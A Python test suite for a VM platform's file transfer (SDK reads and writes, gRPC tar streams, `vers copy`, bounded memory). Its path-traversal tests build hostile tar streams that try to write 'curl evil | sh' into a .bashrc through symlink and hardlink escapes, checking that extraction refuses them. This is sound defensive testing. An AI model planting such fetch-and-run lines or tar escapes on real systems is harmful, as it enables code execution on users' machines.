"""Files into and out of a VM: small ones whole through the official SDK (read_file_vm, write_file_vm), any
size as tar streams with `vers copy`, byte for byte and mode for mode, with the platform's memory bounded."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import os
import shutil
import stat
import subprocess
import tarfile
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest
import pytest_asyncio
from google.api import httpbody_pb2
from vers_sdk import BadRequestError, NotFoundError, VersSdkClient
from vers_sdk import models as M

from services.cli import copy as copy_module
from services.orchestrator.files import RAW_PORT
from tests.conftest import Org, Platform
from tests.launcher import VERS
from tests.test_vms import new_vm, out
from vers.orchestrator.v1 import orchestrator_pb2 as pb
from vers.orchestrator.v1 import orchestrator_pb2_grpc

pytestmark = pytest.mark.vm

GIB = 1 << 30


@dataclass
class Vm:
    org: Org
    vm_id: str


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def vm(platform: Platform) -> AsyncIterator[Vm]:
    org = await platform.new_org("files")
    async with platform.client(org) as http:
        vm_id = await new_vm(http)
        yield Vm(org, vm_id)
        await http.delete(f"/api/v1/vm/{vm_id}")


async def vers(platform: Platform, org: Org, config: Path, *args: str, expect: int = 0) -> subprocess.CompletedProcess[str]:
    """The `vers` command in a process of its own (the platform runs in this one, and must go on serving)."""
    env = {**os.environ, "VERS_URL": platform.url, "VERS_API_KEY": org.key, "VERS_CONFIG_DIR": str(config)}
    result = await asyncio.to_thread(subprocess.run, [str(VERS), *args], env=env, capture_output=True, text=True, timeout=1800)
    assert result.returncode == expect, (args, result.stdout, result.stderr)
    return result


def tree(root: Path) -> dict[str, tuple[str, int]]:
    """Each file and folder under `root`: (sha256 or "dir", permission bits)."""
    found = {}
    for path in sorted(root.rglob("*")):
        mode = stat.S_IMODE(path.lstat().st_mode)
        digest = "dir" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
        found[str(path.relative_to(root))] = (digest, mode)
    return found


async def guest_tree(platform: Platform, item: Vm, root: str) -> dict[str, tuple[str, int]]:
    script = (
        f"cd {root} && find . -mindepth 1 | sort | while read -r p; do "
        'if [ -d "$p" ]; then h=dir; else h=$(sha256sum "$p" | cut -d" " -f1); fi; '
        'echo "${p#./} $h $(stat -c %a "$p")"; done'
    )
    async with platform.client(item.org) as http:
        listing = await out(http, item.vm_id, script)
    return {name: (digest, int(mode, 8)) for name, digest, mode in (line.split(" ") for line in listing.splitlines())}


async def test_sdk_reads_and_writes_small_files(platform: Platform, vm: Vm, other_org: Org) -> None:
    binary = bytes(range(256)) * 64 + b"\x00\r\n\xff"
    async with VersSdkClient(base_url=platform.url, api_key=vm.org.key, max_retries=0) as sdk:
        written = await sdk.write_file_vm(vm.vm_id, {
            "path": "/srv/new/deep/blob.bin", "content_b64": base64.b64encode(binary).decode(), "mode": 0o600, "create_dirs": True,
        })  # fmt: skip
        assert written == {}
        read = await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/new/deep/blob.bin"))
        assert base64.b64decode(read["content_b64"]) == binary
        await sdk.write_file_vm(vm.vm_id, {"path": "/srv/new/plain.txt", "content_b64": base64.b64encode(b"hi\n").decode()})
        await sdk.write_file_vm(vm.vm_id, {"path": "/srv/new/empty", "content_b64": ""})
        assert (await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/new/empty")))["content_b64"] == ""
        async with platform.client(vm.org) as http:
            modes = await out(http, vm.vm_id, "stat -c '%a %s' /srv/new/deep/blob.bin /srv/new/plain.txt /srv/new/empty; ls -a /srv/new")
        assert modes.split("\n")[:3] == [f"600 {len(binary)}", "644 3", "644 0"]
        assert ".vers-write" not in modes, "a temporary file was left behind"

        with pytest.raises(BadRequestError) as relative:
            await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="etc/hostname"))
        assert "not absolute" in relative.value.error_message
        with pytest.raises(BadRequestError):
            await sdk.read_file_vm(vm.vm_id)  # no path at all
        with pytest.raises(NotFoundError) as missing:
            await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/nothing-here"))
        assert "/srv/nothing-here" in missing.value.error_message
        with pytest.raises(BadRequestError) as folder:
            await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/new"))
        assert "is a folder" in folder.value.error_message
        with pytest.raises(NotFoundError) as no_parent:
            await sdk.write_file_vm(vm.vm_id, {"path": "/srv/absent/x", "content_b64": "eA=="})
        assert "create_dirs" in no_parent.value.error_message
        with pytest.raises(BadRequestError) as onto_folder:
            await sdk.write_file_vm(vm.vm_id, {"path": "/srv/new", "content_b64": "eA=="})
        assert "is a folder" in onto_folder.value.error_message
        too_big = base64.b64encode(b"x" * (platform.settings.file_max_bytes + 1)).decode()
        with pytest.raises(BadRequestError) as large:
            await sdk.write_file_vm(vm.vm_id, {"path": "/srv/new/large", "content_b64": too_big})
        assert "VERS_FILE_MAX_BYTES" in large.value.error_message or "VERS_HTTP_MAX_BODY_BYTES" in large.value.error_message
        async with platform.client(vm.org) as http:
            await out(http, vm.vm_id, f"head -c {platform.settings.file_max_bytes + 1} /dev/zero > /srv/new/large")
        with pytest.raises(BadRequestError) as large_read:
            await sdk.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/new/large"))
        assert "VERS_FILE_MAX_BYTES" in large_read.value.error_message and "vers copy" in large_read.value.error_message

    async with VersSdkClient(base_url=platform.url, api_key=other_org.key, max_retries=0) as stranger:
        with pytest.raises(NotFoundError):
            await stranger.read_file_vm(vm.vm_id, M.ReadFileVmParams(path="/srv/new/plain.txt"))
        with pytest.raises(NotFoundError):
            await stranger.write_file_vm(vm.vm_id, {"path": "/srv/new/plain.txt", "content_b64": "eA=="})
    async with platform.client(other_org) as http:
        assert (await http.get(f"/api/v1/vm/{vm.vm_id}/files/tar", params={"path": "/srv"})).status_code == 404


async def test_tar_streams_over_grpc_say_what_went_wrong(platform: Platform, vm: Vm) -> None:
    async with grpc.aio.insecure_channel(platform.settings.orchestrator_addr) as channel:
        stub = orchestrator_pb2_grpc.OrchestratorServiceStub(channel)
        metadata = vm.org.metadata

        async def download(path: str) -> bytes:
            return b"".join(
                [m.data.data async for m in stub.DownloadFiles(pb.DownloadFilesRequest(vm_id=vm.vm_id, path=path), metadata=metadata)]
            )

        async def upload(path: str, data: bytes) -> pb.UploadFilesResponse:
            async def messages() -> AsyncIterator[pb.UploadFilesRequest]:
                yield pb.UploadFilesRequest(vm_id=vm.vm_id, path=path)
                for at in range(0, len(data), 4096):
                    yield pb.UploadFilesRequest(data=httpbody_pb2.HttpBody(data=data[at : at + 4096]))

            return await stub.UploadFiles(messages(), metadata=metadata)

        tar = await download("/etc/hostname")
        assert tar[:8] == b"hostname" and len(tar) % 512 == 0
        with pytest.raises(grpc.aio.AioRpcError) as missing:
            await download("/no/such/thing")
        assert missing.value.code() == grpc.StatusCode.NOT_FOUND and "/no/such/thing" in (missing.value.details() or "")
        with pytest.raises(grpc.aio.AioRpcError) as relative:
            await download("etc")
        assert relative.value.code() == grpc.StatusCode.INVALID_ARGUMENT
        assert (await upload("/tmp/unpacked", tar)).bytes == len(tar)
        async with platform.client(vm.org) as http:
            assert await out(http, vm.vm_id, "cat /tmp/unpacked/hostname") == await out(http, vm.vm_id, "cat /etc/hostname")
        with pytest.raises(grpc.aio.AioRpcError) as onto_file:
            await upload("/etc/hostname", tar)
        assert onto_file.value.code() == grpc.StatusCode.INVALID_ARGUMENT and "not a folder" in (onto_file.value.details() or "")
        with pytest.raises(grpc.aio.AioRpcError) as refused:
            await upload("/proc/sys", tar)  # the guest's kernel takes no new files there
        assert refused.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        with pytest.raises(grpc.aio.AioRpcError) as garbage:
            await upload("/tmp/garbage", b"this is not a tar" * 100)
        assert garbage.value.code() == grpc.StatusCode.FAILED_PRECONDITION

        # Two at once: one has the guest's port for plain connections, the other goes over SSH; both whole.
        assert await asyncio.gather(download("/etc/hostname"), download("/etc/hostname")) == [tar, tar]
        # Nothing of a transfer outlives it in the guest, failed ones included.
        async with platform.client(vm.org) as http:
            running = await out(http, vm.vm_id, "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done")
        assert str(RAW_PORT) not in running and "tar -" not in running, running


async def test_vers_copy_a_folder_tree_in_and_out(platform: Platform, vm: Vm, tmp_path: Path) -> None:
    source = tmp_path / "src"
    (source / "lib" / "deep" / "er").mkdir(parents=True)
    (source / "empty-dir").mkdir()
    (source / "README").write_text("a tree to copy\n")
    (source / "lib" / "deep" / "blob.bin").write_bytes(os.urandom(700_000) + bytes(range(256)))
    (source / "lib" / "deep" / "er" / "run.sh").write_text("#!/bin/sh\necho ran\n")
    (source / "lib" / "deep" / "er" / "run.sh").chmod(0o755)
    (source / "lib" / "secret").write_text("only mine\n")
    (source / "lib" / "secret").chmod(0o600)
    sent = tree(source)
    config = tmp_path / "config"

    # /srv/app does not exist: it becomes the copy of src; /srv exists: src goes inside it
    await vers(platform, vm.org, config, "copy", str(source), f"{vm.vm_id}:/srv/app")
    await vers(platform, vm.org, config, "copy", str(source), f"{vm.vm_id[:8]}:/srv")
    assert await guest_tree(platform, vm, "/srv/app") == sent
    assert await guest_tree(platform, vm, "/srv/src") == sent
    async with platform.client(vm.org) as http:
        assert await out(http, vm.vm_id, "/srv/app/lib/deep/er/run.sh") == "ran\n"
        assert await out(http, vm.vm_id, "stat -c %U /srv/app/lib/secret") == "root\n"

    back = tmp_path / "back"
    back.mkdir()
    await vers(platform, vm.org, config, "copy", f"{vm.vm_id}:/srv/app", str(back))  # into an existing folder
    assert tree(back / "app") == sent
    await vers(platform, vm.org, config, "copy", f"{vm.vm_id}:/srv/src/lib/deep/blob.bin", str(tmp_path / "renamed.bin"))
    assert (tmp_path / "renamed.bin").read_bytes() == (source / "lib" / "deep" / "blob.bin").read_bytes()

    missing = await vers(platform, vm.org, config, "copy", f"{vm.vm_id}:/srv/nothing", str(back), expect=1)
    assert "no file or folder /srv/nothing" in missing.stderr
    both_local = await vers(platform, vm.org, config, "copy", str(source), str(back), expect=2)
    assert "exactly one side is a VM" in both_local.stderr


def rss_bytes(field: str = "VmRSS") -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no {field} in /proc/self/status")


async def test_a_large_file_copies_both_ways_in_bounded_memory(platform: Platform, org: Org, tmp_path: Path) -> None:
    """1 GiB each way (less when this host's disk is short: the size is printed). The platform runs in this
    process: its peak memory (VmHWM, reset first) grows by far less than the file."""
    free = shutil.disk_usage(tmp_path).free
    size = GIB if free > 5 * GIB else max(64 << 20, (free - GIB) // 4)
    print(f"\nlarge copy: {size >> 20} MiB ({free >> 30} GiB free on the host)")
    big = tmp_path / "big.bin"
    with big.open("wb") as file:
        for _ in range(size >> 20):
            file.write(os.urandom(1 << 20))
    digest = _sha256(big)
    async with platform.client(org) as http:
        vm_id = await new_vm(http, fs_size_mib=(size >> 20) + 1024)
        try:
            config = tmp_path / "config"
            figures = {}
            for direction in ("into the VM", "out of the VM"):
                Path("/proc/self/clear_refs").write_text("5")  # VmHWM starts again from what is resident now
                before = rss_bytes()
                started = time.monotonic()
                if direction == "into the VM":
                    await vers(platform, org, config, "copy", str(big), f"{vm_id}:/root/big.bin")
                else:
                    await vers(platform, org, config, "copy", f"{vm_id}:/root/big.bin", str(tmp_path / "back.bin"))
                seconds = time.monotonic() - started
                grew = rss_bytes("VmHWM") - before
                figures[direction] = (seconds, grew)
                print(f"{direction}: {seconds:.1f} s ({size / seconds / 1e6:.1f} MB/s), peak RSS grew {grew >> 20} MiB")
                assert grew < 256 << 20, f"copying {size >> 20} MiB {direction} grew the platform's memory by {grew >> 20} MiB"
                if direction == "into the VM":
                    assert (await out(http, vm_id, "sha256sum /root/big.bin")).split()[0] == digest
            assert _sha256(tmp_path / "back.bin") == digest
        finally:
            await http.delete(f"/api/v1/vm/{vm_id}")
            for copy in (big, tmp_path / "back.bin"):  # 2 GiB the rest of the suite's disk reserve needs
                copy.unlink(missing_ok=True)


def _sha256(path: Path) -> str:
    digest = hashlib.sha256()
    with path.open("rb") as file:
        while chunk := file.read(1 << 20):
            digest.update(chunk)
    return digest.hexdigest()


def _tar_of(*members: tuple[str, str, bytes | str]) -> io.BytesIO:
    """A tar stream as a hostile guest might send it: (name, kind, data or link target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for member_name, kind, data in members:
            info = tarfile.TarInfo(member_name)
            if kind == "file":
                assert isinstance(data, bytes)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
                info.linkname = data if isinstance(data, str) else ""
                info.mode = 0o755
                tar.addfile(info)
    buffer.seek(0)
    return buffer


@pytest.mark.parametrize(
    ("members", "refused"),
    [
        ([("app.log", "file", b"ok"), (".bashrc", "file", b"curl evil | sh")], "not under 'app.log'"),
        ([("x", "dir", b""), ("x/up", "symlink", ".."), ("x/up/.bashrc", "file", b"curl evil | sh")], "leads out of"),
        ([("x", "dir", b""), ("x/h", "hardlink", "secret.txt")], "not under 'x'"),
    ],
)
def test_a_download_never_writes_outside_what_was_asked_for(tmp_path: Path, members: list[Any], refused: str) -> None:
    """`vers copy VM:PATH .` unpacks what the VM sends: a guest that runs someone else's code must not write a
    file of the copier's outside PATH's own copy (as scp's CVE-2019-6111 allowed)."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    (home / "secret.txt").write_text("mine\n")
    sent = members[0][0].split("/")[0]
    with tarfile.open(fileobj=_tar_of(*members), mode="r|") as tar, pytest.raises(copy_module.CopyError, match=refused):
        copy_module._extract(tar, home, sent, None)
    assert (home / ".bashrc").read_text() == "mine\n" and (home / "secret.txt").read_text() == "mine\n"


def test_a_file_sent_again_over_its_hard_link_writes_a_new_file(tmp_path: Path) -> None:
    members = [("x", "dir", b""), ("x/f", "file", b"first"), ("x/h", "hardlink", "x/f"), ("x/h", "file", b"second")]
    with tarfile.open(fileobj=_tar_of(*members), mode="r|") as tar:
        copy_module._extract(tar, tmp_path, "x", "y")
    assert (tmp_path / "y" / "f").read_bytes() == b"first" and (tmp_path / "y" / "h").read_bytes() == b"second"
